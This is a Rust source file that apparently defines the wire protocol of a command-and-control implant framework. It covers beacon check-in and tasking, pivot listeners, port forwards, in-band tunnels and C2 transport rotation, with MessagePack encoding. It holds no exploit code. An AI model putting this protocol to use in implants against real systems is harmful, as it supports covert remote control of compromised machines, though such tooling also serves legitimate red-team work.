//! Message type tags and typed payloads

use crate::{Envelope, ProtocolError};
use bytes::Bytes;
use serde::de::DeserializeOwned;
use serde::{Deserialize, Serialize};

/// Message kind tags carried in [`Envelope::msg_type`]
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct MsgType;

impl MsgType {
    /// Session registration
    pub const REGISTER: u32 = 1;
    /// Beacon registration
    pub const BEACON_REGISTER: u32 = 2;
    /// Beacon checkin, task batch and task report
    pub const BEACON_TASKS: u32 = 3;
    /// Ask a beacon to open an interactive session
    pub const OPEN_SESSION: u32 = 4;
    /// Terminate the session cleanly
    pub const KILL_SESSION: u32 = 5;

    /// Liveness check
    pub const PING: u32 = 10;
    /// Change runtime intervals
    pub const RECONFIGURE: u32 = 11;
    /// Register a capability extension
    pub const REGISTER_EXTENSION: u32 = 12;
    /// List registered extensions
    pub const LIST_EXTENSIONS: u32 = 13;

    /// Start a port forward
    pub const PORTFWD_START: u32 = 20;
    /// Stop a port forward
    pub const PORTFWD_STOP: u32 = 21;
    /// List port forwards
    pub const PORTFWD_LIST: u32 = 22;
    /// Start a pivot listener relayed through the control channel
    pub const PIVOT_START: u32 = 23;
    /// Stop a pivot listener
    pub const PIVOT_STOP: u32 = 24;
    /// List pivot listeners and port forwards
    pub const PIVOT_LIST: u32 = 25;

    /// Open an in-band tunnel towards a remote address
    pub const TUNNEL_OPEN: u32 = 30;
    /// Bytes for an in-band tunnel
    pub const TUNNEL_DATA: u32 = 31;

    /// List the C2 transports the agent rotates over
    pub const TRANSPORTS: u32 = 40;
    /// Add a C2 transport
    pub const ADD_TRANSPORT: u32 = 41;
    /// Remove a C2 transport
    pub const REMOVE_TRANSPORT: u32 = 42;
    /// Reconnect over a given C2 transport
    pub const SWITCH_TRANSPORT: u32 = 43;
}

/// Identity record sent once after connecting
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Register {
    /// Host name
    pub hostname: String,
    /// Account the agent runs as
    pub username: String,
    /// Operating system
    pub os: String,
    /// CPU architecture
    pub arch: String,
    /// Process id
    pub pid: u32,
    /// Executable path
    pub filename: String,
    /// Agent version
    pub version: String,
    /// Transport URL in use
    pub active_c2: String,
    /// Proxy URL in use, if any
    pub proxy_url: Option<String>,
    /// Reconnect interval in seconds
    pub reconnect_interval: u64,
    /// Caller-assigned configuration id
    pub config_id: String,
    /// Peer id when chained through pivots
    pub peer_id: i64,
    /// Locale string
    pub locale: String,
}

/// Beacon registration: identity plus schedule
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct BeaconRegister {
    /// Instance id
    pub id: String,
    /// Poll interval in seconds
    pub interval: u64,
    /// Jitter in seconds
    pub jitter: u64,
    /// Identity record
    pub register: Register,
    /// Next expected checkin, unix seconds
    pub next_checkin: i64,
}

/// Checkin, task batch and task report payload
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct BeaconTasks {
    /// Instance id
    pub id: String,
    /// Poll interval in seconds
    pub interval: u64,
    /// Jitter in seconds
    pub jitter: u64,
    /// Next expected checkin, unix seconds
    pub next_checkin: i64,
    /// Tasks (server to agent) or results (agent to server)
    pub tasks: Vec<Envelope>,
}

/// Request to open an interactive session from beacon mode
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct OpenSession {
    /// Servers to try for the session
    pub c2s: Vec<String>,
    /// Delay before connecting, milliseconds
    pub delay_ms: u64,
}

/// Runtime reconfiguration; absent fields are left unchanged
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Reconfigure {
    /// New reconnect interval in seconds
    pub reconnect_interval: Option<u64>,
    /// New beacon interval in seconds
    pub beacon_interval: Option<u64>,
    /// New beacon jitter in seconds
    pub beacon_jitter: Option<u64>,
}

/// Extension registration
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct RegisterExtension {
    /// Extension name
    pub name: String,
    /// Extension blob
    pub data: Bytes,
}

/// Registered extension names
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ListExtensions {
    /// Names, sorted
    pub names: Vec<String>,
}

/// Start a local listener relaying to `remote_addr`
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct PortfwdStart {
    /// Local bind address, `host:port`
    pub bind_addr: String,
    /// Destination address
    pub remote_addr: String,
    /// Relay through the control channel instead of dialing directly
    pub via_channel: bool,
}

/// Stop the listener on `bind_port`
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct PortfwdStop {
    /// Bind port of the forward
    pub bind_port: u16,
}

/// A port forward as reported to the server
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct PortfwdInfo {
    /// Bound port
    pub bind_port: u16,
    /// Bound address
    pub bind_addr: String,
    /// Destination address
    pub remote_addr: String,
    /// Owning session
    pub session_id: String,
    /// Agent process id
    pub pid: u32,
}

/// Port forward reply: the affected or listed forwards
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct PortfwdReply {
    /// Forwards
    pub forwards: Vec<PortfwdInfo>,
    /// Failure description, empty on success
    pub error: String,
}

/// Open an in-band tunnel
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct TunnelOpen {
    /// Tunnel id
    pub tunnel_id: u64,
    /// Address the far end should connect to
    pub remote_addr: String,
}

/// A chunk of in-band tunnel bytes
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct TunnelData {
    /// Tunnel id
    pub tunnel_id: u64,
    /// Per-direction sequence number
    pub sequence: u64,
    /// Bytes
    pub data: Bytes,
    /// Sender has finished writing
    pub closed: bool,
}

/// A C2 transport in the rotation
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct TransportInfo {
    /// Stable id within this agent process
    pub id: u64,
    /// C2 server URL
    pub url: String,
    /// Transport of the current or most recent connection
    pub active: bool,
}

/// Add a transport to the rotation
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct AddTransport {
    /// C2 server URL
    pub url: String,
}

/// Select a transport by id, for removal or switching
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct TransportId {
    /// Transport id
    pub id: u64,
}

/// Transport reply: the rotation after the request
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct TransportsReply {
    /// Transports, in rotation order
    pub transports: Vec<TransportInfo>,
    /// Failure description, empty on success
    pub error: String,
}

/// Encode a payload to MessagePack
pub fn encode<T: Serialize>(message: &T) -> Result<Bytes, ProtocolError> {
    Ok(Bytes::from(rmp_serde::to_vec(message)?))
}

/// Decode a MessagePack payload
pub fn decode<T: DeserializeOwned>(data: &[u8]) -> Result<T, ProtocolError> {
    Ok(rmp_serde::from_slice(data)?)
}
